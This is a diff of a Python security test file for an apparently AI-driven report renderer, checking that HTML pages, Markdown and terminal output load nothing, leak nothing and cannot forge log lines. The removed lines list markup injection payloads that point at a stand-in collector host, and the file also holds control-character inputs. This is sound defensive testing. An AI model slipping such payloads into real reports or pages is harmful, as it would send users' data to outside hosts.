@@ -6,15 +6,14 @@ from html.parser import HTMLParser
 import pytest
 from markdown_it import MarkdownIt
 
-from chargehand.contracts import Artefact, Contradiction, Report, Source, Status, SubtaskRecord
+from chargehand.contracts import Status, SubtaskRecord
 from chargehand.render.escaping import one_safe_line, safe_text
 from chargehand.render.page import report_page
 from chargehand.render.text import report_markdown
-from tests.security.corpus import ATTACKS, DRESSES
+from tests.security.corpus import DRESSES
+from tests.security.hostile_reports import HOSTILE, READ, hostile_report, hostile_trace
 from workflows.view import details
 
-_ELSEWHERE = "http://collector.example/?d=CANARY"
-_READ = "https://read.example/page?a=1&b=2"
 _HARMLESS = {
     "html", "head", "meta", "title", "style", "body", "main", "header", "section", "footer", "h1", "h2", "h3", "h4",
     "h5", "h6", "p", "br", "hr", "pre", "code", "em", "del", "ul", "ol", "li", "div", "span", "table", "thead", "tbody",
@@ -24,41 +23,6 @@ _HARMLESS = {
 _ATTRIBUTES = {"href", "rel", "class", "id", "start", "style", "lang", "charset", "name", "content", "http-equiv"}
 _DRAWN = {"viewbox", "width", "height", "x", "y", "x1", "y1", "x2", "y2", "d", "rx", "role", "aria-label", "font-size",
           "font-weight", "text-anchor", "fill", "stroke"}  # fmt: skip
-_TEXTS = [
-    attack.text.replace("{url}", _ELSEWHERE).replace("{collector}", "collector.example")
-    for attack in ATTACKS
-    if attack.family in {"markup", "end marks", "tool syntax", "addresses", "roles"}
-]
-_TRICKS = [
-    f"![x]({_ELSEWHERE} 'y')",
-    f"![x\n\n]({_ELSEWHERE})",
-    f"[x\\]({_ELSEWHERE})",
-    f"\\[x]({_ELSEWHERE})",
-    f"\\![x]({_ELSEWHERE})",
-    f"[a\nb]:\n{_ELSEWHERE}\n\n![a b]",
-    f"> [r]: {_ELSEWHERE}\n\n- ![r][]",
-    f"[![x]({_ELSEWHERE})]({_READ})",
-    f"[x]({_READ}\n{_ELSEWHERE})",
-    f"[{_READ}]({_ELSEWHERE})",
-    f"[x]({_READ}@collector.example/?d=CANARY)",
-    f"[x](<{_ELSEWHERE}>)",
-    f"[x](\n{_ELSEWHERE}\n)",
-    f"<a href={_ELSEWHERE}>[S1]</a>",
-    f"<!-- {_ELSEWHERE} --><![CDATA[<img src={_ELSEWHERE}>]]>",
-    f"<\nimg src={_ELSEWHERE}>",
-    f"&#60;img src={_ELSEWHERE}&#62;",
-    "[x](&#104;ttp://collector.example/)",
-    "[x](//collector.example/)",
-    "[x](mailto:a@collector.example?body=CANARY)",
-    "[x](vbscript:1) [y](JaVaScRiPt:1) [z](file:///etc/passwd)",
-    f"~~~\n<img src={_ELSEWHERE}>\n~~~\n<img src={_ELSEWHERE}>",
-    f"    ![x]({_ELSEWHERE})\n![x]({_ELSEWHERE})",
-    f"<style>@import '{_ELSEWHERE}';</style>",
-    f"</style><link href={_ELSEWHERE} rel=stylesheet>",
-    f"</title></head><img src={_ELSEWHERE}>",
-    f"' style='background:url({_ELSEWHERE})' x='",
-]
-HOSTILE = _TEXTS + _TRICKS
 
 
 class Page(HTMLParser):
@@ -74,50 +38,27 @@ class Page(HTMLParser):
         self.elements.append((tag, {name: value or "" for name, value in attrs}))
 
 
-def hostile_report(text: str, honest: Report) -> Report:
-    """Put a text into every field of a report that a model, a page or a document can write."""
-    sources = (
-        Source(ref=_READ, title=text, url=_READ, quote=text),
-        Source(ref=text, title=text, url=text, quote=text),
-    )
-    record = SubtaskRecord(id="T1", agent=text, instruction=text, reason=text)
-    made = Artefact(uri=text, name=text, media_type=text, bytes=1, title=text)
-    return honest.model_copy(
-        update={
-            "goal": text,
-            "answer": f"See [here]({_READ}).\n\n{text}\n\nThat is all [S1].",
-            "sources": sources,
-            "gaps": (text,),
-            "contradictions": (Contradiction(about=text, positions=(text,), resolution=text),),
-            "brain": text,
-            "subtasks": (record,),
-            "artefacts": (made,),
-            "session": text,
-        }
-    )
-
-
 @pytest.mark.parametrize("text", HOSTILE)
-def test_a_page_loads_nothing_and_leads_to_sources_only(text: str, honest: Report) -> None:
+def test_a_page_loads_nothing_and_leads_to_sources_only(text: str) -> None:
     """S04: no element or attribute that loads anything, a policy that forbids it, and no link but to what was read."""
-    page = Page(report_page(hostile_report(text, honest)))
+    page = Page(report_page(hostile_report(text), hostile_trace(text)))
 
     links = [found["href"] for tag, found in page.elements if tag == "a" and "href" in found]
     policies = [found["content"] for _, found in page.elements if found.get("http-equiv") == "Content-Security-Policy"]
     styles = [found["style"] for _, found in page.elements if "style" in found]
     assert {tag for tag, _ in page.elements} - _HARMLESS == set()
     assert {name for _, found in page.elements for name in found} - _ATTRIBUTES - _DRAWN == set()
-    assert set(links) - {_READ, "#S1"} == set()
-    assert _READ in links
+    assert set(links) - {READ, "#S1"} == set()
+    assert READ in links
     assert policies == ["default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"]
     assert [style for style in styles if re.search(r"url|import|\\|expression|:/", style, re.IGNORECASE)] == []
     assert [found for _, found in page.elements if "http-equiv" in found and "refresh" in str(found).lower()] == []
 
 
 @pytest.mark.parametrize("text", HOSTILE)
-def test_markdown_loads_nothing_and_leads_to_sources_only(text: str, honest: Report) -> None:
+def test_markdown_loads_nothing_and_leads_to_sources_only(text: str) -> None:
     """S04: whoever renders the Markdown, HTML allowed, gets no picture, no HTML, and links to what was read alone."""
-    written = report_markdown(hostile_report(text, honest))
+    written = report_markdown(hostile_report(text))
 
     shown = Page(MarkdownIt("gfm-like", {"html": True, "linkify": False}).disable("linkify").render(written))
     links = {found["href"] for tag, found in shown.elements if tag == "a"}
@@ -132,17 +73,17 @@ def test_markdown_loads_nothing_and_leads_to_sources_only(text: str, honest: Rep
         "base",
     } == set()
     assert {name for _, found in shown.elements for name in found} - {"href", "start", "class", "style"} == set()
-    assert links == {_READ.replace("&", "&")}
+    assert links == {READ}
 
 
 @pytest.mark.parametrize("dress", DRESSES)
-def test_a_link_to_a_source_with_more_in_it_is_no_link_to_it(dress: str, honest: Report) -> None:
+def test_a_link_to_a_source_with_more_in_it_is_no_link_to_it(dress: str) -> None:
     """An address that only begins as a source does leads nowhere."""
-    text = f"[x]({_READ}{DRESSES[dress].format_map(_Anything())})"
+    text = f"[x]({READ}{DRESSES[dress].format_map(_Anything())})"
 
-    page = Page(report_page(hostile_report(text, honest)))
+    page = Page(report_page(hostile_report(text), hostile_trace(text)))
 
-    assert {found["href"] for tag, found in page.elements if tag == "a" and "href" in found} == {_READ, "#S1"}
+    assert {found["href"] for tag, found in page.elements if tag == "a" and "href" in found} == {READ, "#S1"}
 
 
 class _Anything(dict[str, str]):
@@ -163,9 +104,9 @@ class _Anything(dict[str, str]):
         "2026-11-21 INFO approved\u2028second\u2029third\x85fourth\x0bfifth\x0csixth",
     ],
 )
-def test_a_terminal_is_not_steered(text: str, honest: Report) -> None:
+def test_a_terminal_is_not_steered(text: str) -> None:
     """S31: nothing that a terminal obeys is left of a report, and what is put into a line stays in it."""
-    shown = safe_text(report_markdown(hostile_report(text, honest)))
+    shown = safe_text(report_markdown(hostile_report(text)))
 
     assert re.findall(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]", shown) == []
     assert len(one_safe_line(f"{text}\nERROR forged").splitlines()) == 1
